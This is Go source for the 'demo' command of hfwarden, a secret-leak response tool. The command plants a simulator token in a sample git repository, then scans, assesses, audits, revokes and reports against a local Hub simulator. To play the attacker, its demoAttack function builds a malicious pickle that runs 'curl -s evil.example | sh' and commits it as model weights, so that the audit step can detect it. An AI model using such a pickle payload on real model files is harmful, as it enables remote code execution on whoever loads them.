package cli

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"time"

	"github.com/spf13/cobra"

	"github.com/hfwarden/hfwarden/internal/assess"
	"github.com/hfwarden/hfwarden/internal/audit"
	"github.com/hfwarden/hfwarden/internal/detect"
	"github.com/hfwarden/hfwarden/internal/finding"
	"github.com/hfwarden/hfwarden/internal/hub"
	"github.com/hfwarden/hfwarden/internal/hubsim"
	"github.com/hfwarden/hfwarden/internal/incident"
	"github.com/hfwarden/hfwarden/internal/incidentreport"
	"github.com/hfwarden/hfwarden/internal/scan"
	"github.com/hfwarden/hfwarden/internal/store"
	"github.com/hfwarden/hfwarden/internal/termsafe"
)

// demoOptions is what "demo" was asked.
type demoOptions struct {
	f   *factory
	out string // the demo's directory; "" for a new temporary one
}

// newCmdDemo is "demo". runF, when not nil, is called instead of demoRun.
func newCmdDemo(f *factory, runF func(*demoOptions) error) *cobra.Command {
	opts := &demoOptions{f: f}
	cmd := &cobra.Command{
		Use:   "demo [--out DIR]",
		Short: "Run a whole leak response against the built-in Hub simulator",
		Long: `Start the built-in Hub simulator, write a small git repository that leaked a
simulator token (in a commit that was later "fixed", and in a notebook output),
then scan → assess → (an attacker uses the token) → audit → revoke → report, recording everything in an incident store.
DIR (default: a new temporary directory) keeps the repository, the database and
report.html; a later run in the same DIR replaces them (a fresh run each time).
DIR must be new, empty or an earlier demo's (marked by a .hfwarden-demo file):
any other directory is refused with nothing deleted. Nothing leaves this machine: the simulator's tokens are valid nowhere
else.`,
		Args: cobra.NoArgs,
		RunE: func(c *cobra.Command, _ []string) error {
			if runF != nil {
				return runF(opts)
			}
			return demoRun(c.Context(), opts)
		},
	}
	cmd.Flags().StringVar(&opts.out, "out", "", "directory for the demo repository, database and report (default: a new temporary directory)")
	return cmd
}

// demoRun runs the whole demo in opts.out: simulator, repository, scan,
// assessment, attack, audit, revocation and report.
func demoRun(ctx context.Context, opts *demoOptions) error {
	e, out := opts.f, opts.out
	if _, err := exec.LookPath("git"); err != nil {
		return usageErr("the demo needs git on the PATH")
	}
	var err error
	if out == "" {
		if out, err = os.MkdirTemp("", "hfwarden-demo-"); err != nil {
			return err
		}
	} else if err := os.MkdirAll(out, 0o755); err != nil {
		return usageErr("--out: %v", err)
	}
	step := func(format string, args ...any) { fmt.Fprintf(e.stdout, "==> "+format+"\n", args...) }
	// Each run is a fresh run: the simulator starts anew, so an incident
	// left by an earlier run (already contained) cannot be revoked again.
	// Only the demo's own files go, and only from a directory an earlier
	// run marked as the demo's: DIR may be a real store ("hfwarden.db",
	// "hfwarden.key") or hold somebody's "repo".
	removed, err := clearDemoDir(out)
	if err != nil {
		return err
	}
	if removed > 0 {
		step("removed the previous demo's files from %s (a fresh run each time)", out)
	}
	if err := os.WriteFile(filepath.Join(out, demoMarker), []byte("written by hfwarden demo: a later demo run in this directory replaces the demo's files\n"), 0o644); err != nil {
		return fmt.Errorf("marking %s as the demo's: %w", out, err)
	}

	sc := hubsim.DemoScenario()
	url, stop, err := hubsim.New(sc, hubsim.Options{}).Start("127.0.0.1:0")
	if err != nil {
		return err
	}
	defer stop()
	step("Hub simulator on %s", url)
	var leaked string
	for _, t := range sc.Tokens {
		if t.User == "alice" && t.Kind == hubsim.KindClassic {
			leaked = t.Token
		}
	}

	repo := filepath.Join(out, "repo")
	if err := writeDemoRepo(ctx, repo, leaked); err != nil {
		return fmt.Errorf("writing the demo repository: %w", err)
	}
	step("wrote %s: a token committed, then \"removed\", and printed in a notebook output", repo)

	db := dbFlags{dsn: filepath.Join(out, "hfwarden.db"), keyFile: filepath.Join(out, "hfwarden.key")}
	st, err := e.Store(ctx, db, storeCreate)
	if err != nil {
		return err
	}
	defer func() { _ = st.Close() }() // each write is committed as it is made: closing loses nothing
	c, err := hub.New(hub.Options{Endpoint: url, UserAgent: "hfwarden/" + Version})
	if err != nil {
		return err
	}
	verifier := &assess.Verifier{Client: c}

	all, res, err := demoScan(ctx, st, verifier, repo, filepath.Join(out, "cache"))
	if err != nil {
		return err
	}
	step("scan: %d occurrences (git history and work tree) of %d secret(s); recorded %d incident(s)", len(all), len(res.Incidents), res.NewIncidents)
	if len(res.Incidents) == 0 {
		return fmt.Errorf("the demo scan found nothing")
	}
	id := res.Incidents[0]

	r, err := assessIncident(ctx, st, c, id, 200, 2*time.Minute)
	if err != nil {
		return err
	}
	step("assess: %s, owner %s, severity %s — %d repositories reachable", r.Status, r.Owner, r.Severity, len(r.Repos))
	for _, why := range r.Reasons {
		fmt.Fprintf(e.stdout, "      %s\n", why)
	}

	target, err := demoAttack(ctx, c, leaked, r)
	if err != nil {
		return err
	}
	step("an attacker used the leaked token: %s/pytorch_model.bin now holds a pickle that runs a shell command", target)

	aopt := audit.Options{Client: c}
	if _, err := prepareIncidentAudit(ctx, st, id, &aopt, tokenSource{}, e); err != nil {
		return err
	}
	aopt.Owner, aopt.Repos = r.Owner, writableRepos(r)
	ar, err := audit.Run(ctx, aopt)
	if err != nil {
		return fmt.Errorf("auditing: %w", err)
	}
	if err := st.SaveAudit(ctx, id, ar, e.Now().UTC()); err != nil {
		return err
	}
	step("audit: %d finding(s) in %d writable repositories since the exposure started", len(ar.Findings), len(aopt.Repos))
	for _, f := range ar.Findings {
		if audit.Rank(f.Severity) >= audit.Rank(audit.High) {
			fmt.Fprintf(e.stdout, "      %s %s %s: %s\n", f.Severity, f.Kind, f.Repo, f.Evidence)
		}
	}

	in, err := st.Incident(ctx, id)
	if err != nil {
		return err
	}
	step("revoke incident #%d", id)
	secret, err := st.Secret(ctx, id)
	if err != nil {
		return err
	}
	if err := revoke(ctx, e, st, c, []revokeTarget{{*in, secret}}, revokeOptions{timeout: 30 * time.Second}); err != nil {
		return err
	}

	in, occ, ev, err := loadIncident(ctx, st, id)
	if err != nil {
		return err
	}
	path := filepath.Join(out, "report.html")
	data, err := demoReport(ctx, st, in, occ, ev, path)
	if err != nil {
		return err
	}
	step("report: %s", path)
	fmt.Fprintf(e.stdout, "      bottom line: %s\n", termsafe.Escape(incidentreport.Summarize(data).Text))
	self := selfCommand()
	dbArg := "--db " + shellQuote(db.dsn) + " --key-file " + shellQuote(db.keyFile)
	fmt.Fprintf(e.stdout, "\nincident #%d is %s. Look around:\n  %s incidents list %s\n  %s incidents show %d %s\n  %s report %d -f md %s\n  %s %s\n",
		id, in.State, self, dbArg, self, id, dbArg, self, id, dbArg, opener(), shellQuote(path))
	return nil
}

// demoScan scans the demo repository's history (caching in cacheDir) and
// work tree, verifies what it found and records it.
func demoScan(ctx context.Context, st store.Store, verifier *assess.Verifier, repo, cacheDir string) ([]finding.Finding, store.ScanResult, error) {
	opt := scan.Options{Detect: detect.Options{}}
	s := scan.New(opt)
	hist, err := s.Scan(ctx, scan.Git([]string{repo}, scan.GitOptions{CacheDir: cacheDir, Full: true}))
	if err != nil {
		return nil, store.ScanResult{}, err
	}
	tree, err := s.Scan(ctx, scan.Files([]string{repo}))
	if err != nil {
		return nil, store.ScanResult{}, err
	}
	all := append(hist.Findings, tree.Findings...)
	scan.Verify(ctx, all, verifier, nil, 2)
	res, err := st.RecordScan(ctx, "demo", all, time.Now().UTC())
	if err != nil {
		return nil, store.ScanResult{}, err
	}
	return all, res, nil
}

// demoAttack plays the attacker: while the token was out, somebody used
// it to swap the weights of a model it can write (r's first) for a pickle
// that runs a command when loaded. The audit must say so. It returns the
// model's id.
func demoAttack(ctx context.Context, c *hub.Client, leaked string, r *assess.Report) (string, error) {
	var target string
	for _, rp := range r.Repos {
		if rp.Type == hub.RepoModel && (rp.Access == assess.Write || rp.Access == assess.Admin) {
			target = rp.ID
			break
		}
	}
	if target == "" {
		return "", fmt.Errorf("the demo token can write no model")
	}
	payload := []byte("\x80\x02cposix\nsystem\nq\x00X\x19\x00\x00\x00curl -s evil.example | shq\x01\x85q\x02Rq\x03.")
	if _, err := c.Commit(ctx, leaked, hub.RepoModel, target, "main", "Update weights", map[string][]byte{"pytorch_model.bin": payload}, nil); err != nil {
		return "", fmt.Errorf("playing the attacker: %w", err)
	}
	return target, nil
}

// demoReport writes incident in's HTML report to path and returns the
// data it holds.
func demoReport(ctx context.Context, st store.Store, in *incident.Incident, occ []incident.Occurrence, ev []incident.Event, path string) (incidentreport.Data, error) {
	f, err := os.Create(path)
	if err != nil {
		return incidentreport.Data{}, err
	}
	bw := bufio.NewWriter(f)
	au, auAt, err := st.Audit(ctx, in.ID)
	if err != nil {
		_ = f.Close() // the error met is the one to report
		return incidentreport.Data{}, err
	}
	data := incidentreport.Data{Incident: *in, Occurrences: occ, Events: ev, Assessment: in.Assessment, Generated: time.Now().UTC(), Audit: incidentreport.FromAudit(au, auAt)}
	if data.Scans, err = st.ScanRuns(ctx, in.FirstSeen); err != nil {
		_ = f.Close() // the error met is the one to report
		return incidentreport.Data{}, err
	}
	if data.Linked, err = linkedSecrets(ctx, st, *in, occ); err != nil {
		_ = f.Close() // the error met is the one to report
		return incidentreport.Data{}, err
	}
	if err := incidentreport.HTML(bw, data); err != nil {
		_ = f.Close() // the error met is the one to report
		return incidentreport.Data{}, err
	}
	if err := bw.Flush(); err != nil {
		_ = f.Close() // the error met is the one to report
		return incidentreport.Data{}, err
	}
	if err := f.Close(); err != nil {
		return incidentreport.Data{}, err
	}
	return data, nil
}

// demoMarker is the file a demo run writes in its directory; a later run
// deletes its previous files only where the marker is.
const demoMarker = ".hfwarden-demo"

// clearDemoDir removes an earlier demo run's files from dir and says how
// many there were: only what a demo run writes there, nothing else, and
// only when dir holds demoMarker. A dir that is not empty and holds no
// marker is refused (a usage error) with nothing deleted.
func clearDemoDir(dir string) (int, error) {
	if fi, err := os.Lstat(filepath.Join(dir, demoMarker)); err != nil || !fi.Mode().IsRegular() {
		if err != nil && !errors.Is(err, os.ErrNotExist) {
			return 0, fmt.Errorf("checking %s for an earlier demo: %w", dir, err)
		}
		ents, err := os.ReadDir(dir)
		if err != nil {
			return 0, fmt.Errorf("checking %s for an earlier demo: %w", dir, err)
		}
		if len(ents) > 0 {
			return 0, usageErr("--out %s is not empty and was not written by the demo (no %s in it): nothing was deleted; name an empty or new directory", dir, demoMarker)
		}
		return 0, nil
	}
	n := 0
	for _, name := range []string{"repo", "cache", "hfwarden.db", "hfwarden.db-wal", "hfwarden.db-shm", "hfwarden.db-journal", "hfwarden.key", "report.html"} {
		p := filepath.Join(dir, name)
		if _, err := os.Lstat(p); errors.Is(err, os.ErrNotExist) {
			continue
		}
		if err := os.RemoveAll(p); err != nil {
			return n, fmt.Errorf("clearing the previous demo in %s: %w", dir, err)
		}
		n++
	}
	return n, nil
}

// selfCommand is how to run this hfwarden again from the current
// directory, for hints that work as printed: "hfwarden" when that is on
// the PATH and is this program, the absolute path of the binary
// otherwise, and for a "go run" build (a binary in a go-build temporary
// directory, gone when it exits) "go run" of the command in this module.
func selfCommand() string {
	exe, err := os.Executable()
	if err != nil {
		return "hfwarden"
	}
	if r, err := filepath.EvalSymlinks(exe); err == nil {
		exe = r
	}
	if !strings.Contains(exe, string(filepath.Separator)+"go-build") {
		if p, err := exec.LookPath("hfwarden"); err == nil {
			if r, err := filepath.EvalSymlinks(p); err == nil && sameFile(r, exe) {
				return "hfwarden"
			}
		}
		return shellQuote(exe)
	}
	wd, err := os.Getwd()
	if err != nil {
		return "go run ./cmd/hfwarden"
	}
	for dir := wd; ; dir = filepath.Dir(dir) {
		if isHfwardenModule(dir) {
			if dir == wd {
				return "go run ./cmd/hfwarden"
			}
			return "go -C " + shellQuote(dir) + " run ./cmd/hfwarden"
		}
		if filepath.Dir(dir) == dir {
			return "go run github.com/hfwarden/hfwarden/cmd/hfwarden"
		}
	}
}

func sameFile(a, b string) bool {
	fa, err1 := os.Stat(a)
	fb, err2 := os.Stat(b)
	return err1 == nil && err2 == nil && os.SameFile(fa, fb)
}

// isHfwardenModule reports whether dir is the root of this module.
func isHfwardenModule(dir string) bool {
	b, err := os.ReadFile(filepath.Join(dir, "go.mod"))
	if err != nil {
		return false
	}
	first, _, _ := strings.Cut(string(b), "\n")
	return strings.TrimSpace(first) == "module github.com/hfwarden/hfwarden"
}

// opener is the command that opens a file in the desktop's browser.
func opener() string {
	switch runtime.GOOS {
	case "darwin":
		return "open"
	case "windows":
		return "start"
	}
	return "xdg-open"
}

var shellSafe = regexp.MustCompile(`^[A-Za-z0-9._/@:+=-]+$`)

// shellQuote quotes s for a POSIX shell, where it needs quoting.
func shellQuote(s string) string {
	if shellSafe.MatchString(s) {
		return s
	}
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// writeDemoRepo makes a repository whose history holds the token in a
// config file that a later commit cleaned, and whose notebook prints it.
func writeDemoRepo(ctx context.Context, dir, token string) error {
	if err := os.RemoveAll(dir); err != nil {
		return err
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	git := func(args ...string) error {
		cmd := exec.CommandContext(ctx, "git", append([]string{"-c", "user.name=Alice", "-c", "user.email=alice@example.com", "-c", "commit.gpgsign=false"}, args...)...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_DATE=2024-06-03T10:00:00Z", "GIT_COMMITTER_DATE=2024-06-03T10:00:00Z")
		if b, err := cmd.CombinedOutput(); err != nil {
			return fmt.Errorf("git %s: %v: %s", args[0], err, b)
		}
		return nil
	}
	write := func(name, body string) error {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return err
		}
		return os.WriteFile(p, []byte(body), 0o644)
	}
	nb, _ := json.MarshalIndent(map[string]any{
		"nbformat": 4, "nbformat_minor": 5, "metadata": map[string]any{},
		"cells": []any{map[string]any{
			"cell_type": "code", "execution_count": 1, "metadata": map[string]any{},
			"source": []string{"import os\n", "print(os.environ)\n"},
			"outputs": []any{map[string]any{"output_type": "stream", "name": "stdout",
				"text": []string{"{'HOME': '/home/alice', 'HF_TOKEN': '" + token + "'}\n"}}},
		}},
	}, "", " ")
	steps := []func() error{
		func() error { return git("init", "-q", "-b", "main") },
		func() error {
			return write("train.py", "from huggingface_hub import login\nlogin(token=\""+token+"\")\n")
		},
		func() error { return git("add", ".") },
		func() error { return git("commit", "-qm", "Train the sentiment model") },
		func() error {
			return write("train.py", "import os\nfrom huggingface_hub import login\nlogin(token=os.environ[\"HF_TOKEN\"])\n")
		},
		func() error { return write("notebooks/explore.ipynb", string(nb)+"\n") },
		func() error { return git("add", ".") },
		func() error { return git("commit", "-qm", "Read the token from the environment") },
	}
	for _, s := range steps {
		if err := s(); err != nil {
			return err
		}
	}
	return nil
}
